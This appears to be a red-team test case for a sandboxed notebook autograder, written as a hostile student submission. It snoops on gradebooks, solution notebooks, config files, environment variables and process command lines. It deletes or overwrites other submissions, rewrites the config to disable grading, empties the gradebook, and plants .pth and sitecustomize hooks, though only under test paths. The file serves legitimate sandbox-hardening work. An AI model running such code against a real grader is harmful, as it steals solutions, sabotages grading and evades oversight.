# No answer is written. First it reads what a student must never see into its own output
# (which the feedback would carry): gradebook.db, the solution notebooks, nbgrader_config.py,
# the environment and every process's command line; anything found is printed after
# "SNOOPED". Then it damages what it can reach: other submissions deleted or replaced, a .pth
# file, sitecustomize.py and usercustomize.py in every site directory, nbgrader_config.py
# rewritten to switch the grading off, gradebook.db emptied. Payloads are harmless, and the
# damage is aimed at the red-team course (/tmp/emcourse-redteam-*) only, so that a broken
# sandbox would hurt this test and not a neighbour's.
# expect: 0
# flag: reads or writes files
# %% preamble
import glob
import os
import site
import sys

course = os.path.dirname(sys.prefix)  # the editable install lives in the course root
roots = ["..", "../..", "../../..", "../../../..", os.path.expanduser("~"), course,
         *glob.glob("/tmp/emcourse-redteam-*/course")]
snooped = []
for root in roots:
    for name in ("gradebook.db", "nbgrader_config.py", "solutions/hw1/hw1_kmeans.ipynb",
                 "solutions/hw2/hw2_gmm.ipynb", "solutions/hw3/hw3_hmm.ipynb"):
        try:
            with open(os.path.join(root, name), "rb") as f:
                snooped.append((os.path.join(root, name), f.read()[:3000]))
        except OSError:
            pass
for path in glob.glob("/proc/*/cmdline") + ["/proc/1/environ"]:
    try:
        snooped.append((path, open(path, "rb").read()[:300]))
    except OSError:
        pass
print("environment:", dict(os.environ))
if any(p.endswith((".db", ".ipynb", ".py")) for p, _ in snooped):
    print("SNOOPED", snooped)
print("processes:", [p for p, _ in snooped if p.startswith("/proc")])

damaged = []


def attempt(what, action):
    try:
        action()
        damaged.append(what)
    except OSError:
        pass


targets = glob.glob("/tmp/emcourse-redteam-*/course")
for root in targets:
    for nb in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True):
        attempt(f"replaced {nb}", lambda p=nb: open(p, "w").write("{}"))
        attempt(f"deleted {nb}", lambda p=nb: os.remove(p))
for root in targets + ["..", "../.."]:
    for cfg in glob.glob(os.path.join(root, "nbgrader_config.py")):
        attempt(f"rewrote {cfg}", lambda p=cfg: open(p, "w").write(
            "c = get_config()\nc.Autograde.autograde_preprocessors = []\n"))
    for db in glob.glob(os.path.join(root, "gradebook.db")):
        attempt(f"emptied {db}", lambda p=db: open(p, "w").close())
for sitedir in {*site.getsitepackages(), *[p for p in sys.path if p.endswith("-packages")]}:
    for name, text in (("rt-intruder.pth", "import os; os.environ.setdefault('RT_INTRUDER', '1')\n"),
                       ("sitecustomize.py", "RT_INTRUDER = 1\n"),
                       ("usercustomize.py", "RT_INTRUDER = 1\n")):
        attempt(f"planted {sitedir}/{name}",
                lambda p=os.path.join(sitedir, name), t=text: open(p, "x").write(t))
print("damage done:", damaged)
